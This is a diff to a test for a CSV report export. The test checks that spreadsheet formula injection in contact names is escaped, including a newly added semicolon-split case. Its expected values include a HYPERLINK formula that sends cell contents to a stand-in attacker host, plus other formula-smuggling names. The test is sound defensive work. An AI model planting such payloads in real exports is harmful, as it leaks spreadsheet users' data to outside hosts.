@@ -215,6 +215,7 @@ async def test_csv_export_streams_chunks_that_spreadsheets_read_as_text(hub, mon
         "-",
         "+86 138",
         "Ana",
+        "Bob;=1+1;@SUM(A1)",
     ]
     ids = []
     for n, name in enumerate(names):
@@ -227,11 +228,15 @@ async def test_csv_export_streams_chunks_that_spreadsheets_read_as_text(hub, mon
         "/api/v1/reports/export.csv", headers={"Authorization": f"Bearer {manager}"}
     ) as resp:
         assert resp.status == 200 and resp.headers["Content-Type"] == "text/csv; charset=utf-8"
-        rows = _sheet(await resp.read())
-    assert [r["id"] for r in rows] == ids  # three chunks, each row once, in order
+        body = await resp.read()
+    rows = _sheet(body)
+    assert [r["id"] for r in rows] == ids  # four chunks, each row once, in order
     assert [r["contact_name"] for r in rows] == [
-        "王小明", '\'=HYPERLINK("http://evil.example/?"&A1,"Refund")', "'@SUM(A1:A9)", "-", "'+86 138", "Ana"
+        "王小明", '\'=HYPERLINK("http://evil.example/?"&A1,"Refund")', "'@SUM(A1:A9)", "-", "'+86 138", "Ana",
+        "Bob;'=1+1;'@SUM(A1)",
     ]  # fmt: skip
+    # A spreadsheet that splits lists at ";" (German, French) keeps a quoted cell whole.
+    assert "\"Bob;'=1+1;'@SUM(A1)\"" in body.decode("utf-8-sig")
 
 
 async def test_an_export_the_database_fails_during_is_never_a_complete_looking_file(hub, monkeypatch):
